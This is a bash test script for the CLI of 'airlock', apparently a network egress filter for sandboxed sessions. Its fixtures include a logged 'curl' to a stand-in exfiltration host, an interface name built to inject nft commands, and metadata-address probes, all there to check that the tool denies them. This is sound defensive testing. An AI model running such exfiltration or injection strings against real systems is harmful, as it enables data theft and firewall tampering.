#!/usr/bin/env bash
# The command line as a user meets it: --help everywhere, exit codes, FILE:LINE:COL errors.
set -uo pipefail
AIRLOCK=${AIRLOCK:?set AIRLOCK to the airlock binary}
DATA=${AIRLOCK_TEST_DATA:?set AIRLOCK_TEST_DATA to tests/data}
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT
passed=0 failed=0 skipped=0
# check "description" EXPECTED_STATUS PATTERN -- command...: status and output (stdout+stderr) must match
check() {
  local d=$1 want=$2 pattern=$3
  shift 4
  local out status
  out=$("$@" 2>&1)
  status=$?
  if [[ $status -eq $want ]] && grep -qE -- "$pattern" <<<"$out"; then
    passed=$((passed + 1)); echo "ok   $d"
  else
    failed=$((failed + 1)); echo "FAIL $d (status $status, want $want)"; sed 's/^/     /' <<<"$out" | head -20
  fi
}
# skip "description" "why": a check this machine cannot make, reported as such (as tests/e2e/lib/check.sh)
skip() { skipped=$((skipped + 1)); echo "skip $1 ($2)"; }

check "airlock --help lists the commands" 0 'daemon .*check .*test ' -- bash -c "$AIRLOCK --help | tr '\n' ' '"
check "airlock with no command prints usage and exits 2" 2 'Usage: airlock COMMAND' -- "$AIRLOCK"
check "airlock --version" 0 '^airlock [0-9]+\.[0-9]+\.[0-9]+$' -- "$AIRLOCK" --version
for cmd in daemon check test ca nft-rules; do
  check "airlock $cmd --help" 0 "^Usage: airlock $cmd" -- "$AIRLOCK" "$cmd" --help
  check "airlock help $cmd" 0 "^Usage: airlock $cmd" -- "$AIRLOCK" help "$cmd"
done
check "an unknown command says so" 2 "unknown command 'frobnicate'" -- "$AIRLOCK" frobnicate
check "an unknown option names itself and --help" 2 "unknown option '--bogus'.*--help" -- \
  bash -c "$AIRLOCK check --bogus 2>&1 | tr '\n' ' '; exit \${PIPESTATUS[0]}"

check "check: the embedded default is valid" 0 '^ok: <embedded default>: 1 policy, [0-9]+ rules' -- "$AIRLOCK" check
check "check: a good file" 0 '^ok: .*contract_example.yaml' -- "$AIRLOCK" check -c "$DATA/policy/ok/contract_example.yaml"
check "check: a bad file gives FILE:LINE:COL and exit 2" 2 "unknown_key.yaml:5:9: unknown key 'hots'" -- \
  "$AIRLOCK" check -c "$DATA/policy/bad/unknown_key.yaml"
check "check: a missing file" 2 "nope.yaml: cannot open the file" -- "$AIRLOCK" check -c "$tmp/nope.yaml"
check "check --print-default prints YAML that checks" 0 '^ok' -- \
  bash -c "$AIRLOCK check --print-default > $tmp/d.yaml && $AIRLOCK check -c $tmp/d.yaml"

check "test: allow exits 0 with reason, the family rule and the port's protocol" 0 \
  '^allow host_allowed <family npm>:[0-9]+ protocol=tls$' -- "$AIRLOCK" test --policy default registry.npmjs.org
check "test: ssh on github.com:22 is any protocol" 0 '^allow host_allowed <family github>:[0-9]+ protocol=any$' -- \
  "$AIRLOCK" test --policy default github.com:22
check "test: opaque bytes on :443 exit 1" 1 '^deny protocol_not_allowed <family github>:[0-9]+$' -- \
  "$AIRLOCK" test --policy default --speaks opaque github.com:443
check "test: plain HTTP on :443 exits 1" 1 '^deny protocol_not_allowed' -- \
  "$AIRLOCK" test --policy default --speaks http github.com:443
check "test: HTTP on :80 is allowed" 0 '^allow host_allowed .* protocol=http$' -- \
  "$AIRLOCK" test --policy default --speaks http github.com:80
check "test: a bad --speaks exits 2" 2 "expected tls, http or opaque" -- \
  "$AIRLOCK" test --policy default --speaks ssh github.com
check "test: port not listed exits 1" 1 '^deny port_not_allowed' -- "$AIRLOCK" test --policy default registry.npmjs.org:8080
check "test: metadata address exits 1" 1 '^deny private_address default$' -- "$AIRLOCK" test --policy default 169.254.169.254:80
check "test: IPv6 literal with port" 1 '^deny private_address' -- "$AIRLOCK" test --policy default '[::ffff:127.0.0.1]:443'
check "test: invalid name" 1 '^deny invalid_name' -- "$AIRLOCK" test --policy default 'bad..name'
check "test: unknown policy exits 2" 2 "no policy named 'nope'" -- "$AIRLOCK" test --policy nope example.com
check "test: --policy is required" 2 'policy NAME is required' -- "$AIRLOCK" test example.com
check "test: bad port exits 2" 2 'not HOST\[:PORT\]' -- "$AIRLOCK" test --policy default example.com:99999

check "daemon: a bad config exits 2 before binding anything" 2 'unknown_key.yaml:5:9' -- \
  "$AIRLOCK" daemon -c "$DATA/policy/bad/unknown_key.yaml"
check "daemon: a config that listens on nothing is refused" 2 'nothing to serve' -- \
  "$AIRLOCK" daemon -c "$DATA/policy/ok/no_listeners.yaml"
# A start that fails after the control socket was made (a policy RE2 cannot compile within
# its memory budget fails only when the daemon compiles it) leaves no socket file behind.
{
  printf 'version: 1\nlisten:\n  dns: 127.0.0.1:25053\n  control: %s/run/control.sock\n' "$tmp"
  printf 'upstream_dns: [127.0.0.1]\npolicies:\n  p:\n    allow:\n'
  for i in $(seq 300); do printf '      - regex: "^[a-z]{1,60}[0-9]{1,60}x%d[a-z]{1,60}[.]example$"\n' "$i"; done
  printf 'sessions:\n  - id: s\n    source: 127.0.0.1/32\n    policy: p\n'
} >"$tmp/late_failure.yaml"
check "daemon: a start that fails late exits 2" 2 "exceed RE2's memory budget" -- "$AIRLOCK" daemon -c "$tmp/late_failure.yaml"
check "  and leaves no control socket behind" 0 '' -- bash -c "[[ -d $tmp/run && ! -e $tmp/run/control.sock ]]"
check "nft-rules: needs --iface" 2 'iface IFACE is required' -- "$AIRLOCK" nft-rules
check "nft-rules: --sidecar needs --uid" 2 'needs --uid' -- "$AIRLOCK" nft-rules --sidecar
check "nft-rules: --sidecar refuses uid 0" 2 'uid of its own' -- "$AIRLOCK" nft-rules --sidecar --uid 0
check "nft-rules: --sidecar refuses an unknown user" 2 'neither a number nor a known user' -- \
  "$AIRLOCK" nft-rules --sidecar --uid no-such-user-here
check "nft-rules: --sidecar takes a user name" 0 'meta skuid 65534 return' -- "$AIRLOCK" nft-rules --sidecar --uid nobody
check "nft-rules: refuses an interface name that could smuggle syntax" 2 'interface name' -- \
  "$AIRLOCK" nft-rules --iface 'x"; flush ruleset'
if command -v nft >/dev/null; then
  check "nft-rules: nft itself accepts the ruleset" 0 '' -- bash -c "$AIRLOCK nft-rules --iface veth0 | nft -c -f -"
  check "nft-rules: nft itself accepts the sidecar ruleset" 0 '' -- \
    bash -c "$AIRLOCK nft-rules --sidecar --uid 1337 --https-port 15443 | nft -c -f -"
else
  skip "nft-rules: nft itself accepts the ruleset" "no nft here"
  skip "nft-rules: nft itself accepts the sidecar ruleset" "no nft here"
fi
check "ca init: creates the CA" 0 'ca.crt' -- "$AIRLOCK" ca init "$tmp/ca"
check "ca init: refuses to overwrite" 1 'ca.key' -- "$AIRLOCK" ca init "$tmp/ca"
check "ca: needs init DIR" 2 "expected 'init DIR'" -- "$AIRLOCK" ca

# explain and suggest, on a small log of one audit-mode session
for cmd in explain suggest; do
  check "airlock $cmd --help" 0 "^Usage: airlock $cmd" -- "$AIRLOCK" "$cmd" --help
done
cat > "$tmp/decisions.jsonl" <<'LOG'
{"ts":"2026-12-02T14:21:15.900000Z","event":"session","session":"s1","labels":{},"tool_call":null,"action":"open","policy":"agent","sources":["198.51.100.2/32"],"verdict":null,"reason":null,"rule":null,"dns_queries":null,"connections_allowed":null,"connections_denied":null,"bytes_up":null,"bytes_down":null,"duration_ms":null}
{"ts":"2026-12-02T14:21:16.120000Z","event":"dns","session":"s1","labels":{},"tool_call":null,"client":"198.51.100.2:41000","name":"registry.npmjs.org","dst":null,"upstream":null,"proto":"dns","verdict":"allow","reason":"host_allowed","rule":"<family npm>:7","conn":null,"policy":"agent","policy_version":"9c1e","process":null,"qtype":"A","rcode":"NOERROR","answers":["104.16.24.34"]}
{"ts":"2026-12-02T14:21:17.480000Z","event":"connect","session":"s1","labels":{},"tool_call":null,"client":"198.51.100.2:52000","name":null,"dst":"104.16.24.34:443","upstream":"104.16.24.34:443","proto":"tcp","verdict":"allow","reason":"host_allowed","rule":"<family npm>:7","conn":1,"policy":"agent","policy_version":"9c1e","process":null,"bytes_up":10,"bytes_down":20,"duration_ms":5}
garbage
{"ts":"2026-12-02T14:21:19.400000Z","event":"connect","session":"s1","labels":{},"tool_call":null,"client":"198.51.100.2:52004","name":"exfil.attacker.example","dst":"203.0.113.66:8443","upstream":"203.0.113.66:8443","proto":"tls","verdict":"audit-deny","reason":"host_not_allowed","rule":"default","conn":2,"policy":"agent","policy_version":"9c1e","process":{"pid":4242,"comm":"curl","cmdline":"curl https://exfil.attacker.example:8443/","chain":[{"pid":4242,"comm":"curl","cmdline":"curl https://exfil.attacker.example:8443/"},{"pid":4240,"comm":"sh","cmdline":"sh -c curl"}]},"bytes_up":1,"bytes_down":2,"duration_ms":3}
{"ts":"2026-12-02T14:21:19.700000Z","event":"connect","session":"s1","labels":{},"tool_call":null,"client":"198.51.100.2:52006","name":"intranet.acme.example","dst":"203.0.113.80:443","upstream":null,"proto":"tls","verdict":"deny","reason":"private_address","rule":"default","conn":3,"policy":"agent","policy_version":"9c1e","process":null,"bytes_up":null,"bytes_down":null,"duration_ms":2}
LOG
check "explain: the story, with the nameless connection named by DNS" 0 'connect tcp registry.npmjs.org \(name from DNS\) 104.16.24.34:443' -- \
  "$AIRLOCK" explain --log "$tmp/decisions.jsonl" s1
check "explain: denials stand out, the process chain oldest first" 0 'AUDIT-DENY host_not_allowed.* process sh -> curl' -- \
  bash -c "$AIRLOCK explain --log $tmp/decisions.jsonl s1 | tr '\n' ' '"
check "explain: the garbage line is counted" 0 '^1 unparseable line ignored$' -- "$AIRLOCK" explain --log "$tmp/decisions.jsonl" s1
check "explain: no colour when not a terminal" 0 '^0$' -- bash -c "$AIRLOCK explain --log $tmp/decisions.jsonl s1 | tr -cd '\\033' | wc -c"
check "explain --json is one JSON document" 0 '^\{"session":"s1",.*"steps":\[.*"unparseable_lines":1' -- \
  bash -c "$AIRLOCK explain --json --log $tmp/decisions.jsonl s1 | wc -l | grep -qx 1 && $AIRLOCK explain --json --log $tmp/decisions.jsonl s1"
check "explain: a session the log does not have exits 1 and names the log" 1 "no line for session 'nope' in $tmp/decisions.jsonl" -- \
  "$AIRLOCK" explain --log "$tmp/decisions.jsonl" nope
check "explain: an unreadable log exits 2" 2 "$tmp/none.jsonl: cannot open the log" -- "$AIRLOCK" explain --log "$tmp/none.jsonl" s1
check "explain: needs a SESSION" 2 'expected a SESSION id' -- "$AIRLOCK" explain --log "$tmp/decisions.jsonl"
check "explain: reads stdin with --log -" 0 'session s1' -- bash -c "$AIRLOCK explain --log - s1 < $tmp/decisions.jsonl"
check "suggest: families, ports, and what is not suggested" 0 'include: \[npm\].*- host: exfil.attacker.example +ports: \[8443\].*not suggested:.*intranet.acme.example \(private_address' -- \
  bash -c "$AIRLOCK suggest --log $tmp/decisions.jsonl s1 2>/dev/null | tr '\n' ' '"
check "suggest: the output with 'version: 1' in front passes airlock check" 0 '^ok: ' -- \
  bash -c "{ echo 'version: 1'; $AIRLOCK suggest --log $tmp/decisions.jsonl s1; } > $tmp/suggested.yaml && $AIRLOCK check -c $tmp/suggested.yaml"
check "suggest: a session the log does not have exits 1" 1 "no line for session 'nope'" -- "$AIRLOCK" suggest --log "$tmp/decisions.jsonl" nope
check "suggest: an unreadable log exits 2" 2 'cannot open the log' -- "$AIRLOCK" suggest --log "$tmp/none.jsonl" s1


# airlock run / gc / attach / detach: help and the errors caught before anything is set up
# (run's own failures are 125, so that CMD's statuses stay CMD's).
for cmd in run gc attach detach; do
  check "airlock $cmd --help" 0 "^Usage: airlock $cmd" -- "$AIRLOCK" "$cmd" --help
done
check "run --help states the contract" 0 'airlock run \[OPTIONS\] -- CMD \[ARG\.\.\.\]' -- "$AIRLOCK" run --help
check "run --help names the exit statuses" 0 '124 when --timeout' -- bash -c "$AIRLOCK run --help | tr '\n' ' '"
check "run: no command" 125 'no command: airlock run \[OPTIONS\] -- CMD' -- "$AIRLOCK" run
check "run: --keep-env is refused" 125 'keep-env is not offered' -- "$AIRLOCK" run --keep-env -- true
check "run: a bad --memory names the flag" 125 "memory '12X': expected a size" -- "$AIRLOCK" run --memory 12X -- true
check "run: a bad --timeout names the flag" 125 "timeout '5y': expected a duration" -- "$AIRLOCK" run --timeout 5y -- true
check "run: a bad --label" 125 "label 'nokey': expected KEY=VALUE" -- "$AIRLOCK" run --label nokey -- true
check "run: --ro-cwd and --copy-cwd exclude each other" 125 'exclude each other' -- "$AIRLOCK" run --ro-cwd --copy-cwd -- true
check "run: CMD's options are CMD's" 125 'no command' -- "$AIRLOCK" run --
check "attach: needs --netns" 2 'netns PATH\|NAME is required' -- "$AIRLOCK" attach
check "detach: needs --netns" 2 'netns PATH\|NAME is required' -- "$AIRLOCK" detach
check "gc: no arguments" 2 "unexpected argument 'now'" -- "$AIRLOCK" gc now

echo "$passed passed, $failed failed, $skipped skipped"
[[ $failed -eq 0 ]]
